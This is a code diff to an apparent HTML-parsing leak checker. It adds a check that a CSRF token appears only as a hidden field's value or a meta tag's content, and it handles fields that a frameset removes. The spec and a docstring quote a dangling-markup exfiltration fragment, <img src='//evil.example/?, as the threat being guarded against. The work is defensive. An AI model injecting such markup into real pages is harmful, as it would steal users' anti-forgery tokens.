@@ -52,6 +52,11 @@ away): such a form must get no token. The first pages (LEGIT) are
 ordinary table layouts that must keep theirs (a form in a cell, in a
 caption, around a table, in a nested table's cell).
 
+The token itself must be nowhere else in the tree: not in another
+element's attribute (markup an attacker left open around a form, as in
+<img src='//evil.example/?, would carry it away), text, raw text or a
+comment; only as a field's value and the meta pair's content.
+
 Submitters. A form whose fields can leave by GET or to another origin
 must not hold the field: its method must be POST, and every submit
 button it owns (as above, or by a form="" attribute naming its id, the
@@ -552,6 +557,30 @@ def sends_away(attrs, base, status):
             return target
     return None
 
+def token_elsewhere(root):
+    """Where the token is in the tree other than as an injected field's
+    value (an HTML <input name=FIELD>) or the meta pair's content: inside
+    another element's attribute (a value an attacker's markup left open
+    would carry it away: <img src='//evil.example/?...), in text, raw
+    text or a comment. The owner checks see only the fields the tree
+    has; a token the tree holds elsewhere is not one of them."""
+    found = []
+    for el in root.iter():
+        tag = el.tag if isinstance(el.tag, str) else "a comment"
+        for k, v in el.attrib.items():
+            if TOKEN not in v:
+                continue
+            if tag == "input" and k == "value" and v == TOKEN and el.attrib.get("name") == FIELD:
+                continue
+            if tag == "meta" and k == "content" and v == TOKEN and el.attrib.get("name") == "csrf-token":
+                continue
+            found.append("the token in the attribute %s of %s" % (k, tag))
+        for text, where in ((el.text, "in"), (el.tail, "after")):
+            if text and TOKEN in text:
+                found.append("the token in text %s %s" % (where, tag))
+    return found
+
+
 # Leaks html5lib alone cannot decide (see leaks()).
 UNDECIDED = []
 
@@ -568,7 +597,7 @@ def leaks(html, scripting, status):
     root = doc.getroot() if hasattr(doc, "getroot") else doc
     parents = {id(c): p for p in root.iter() for c in p}
     base = document_base(root)
-    found = []
+    found = token_elsewhere(root)
     owned_self = 0
     # each field's owner in the final tree: its pointer's form while it
     # stayed with it, else its nearest ancestor form
@@ -579,8 +608,15 @@ def leaks(html, scripting, status):
     # that form (a field owned through the pointer alone, as after a <form>
     # the "in table" mode inserts and pops at once, is handed to another
     # form when the adoption agency or foster parenting moves it).
+    # A field the tree builder took out of the document with its form
+    # (a <frameset> while frameset-ok holds removes the whole body: a form
+    # and its hidden field leave it "ok") is in no document: no submitter
+    # can send it, and no form is its ancestor here.
+    in_tree = {id(e) for e in root.iter()}
     for el, _, inert, first in rec.fields:
         if inert or first is None:
+            continue
+        if id(el) not in in_tree and id(first) not in in_tree:
             continue
         p = parents.get(id(el))
         while p is not None and p is not first:
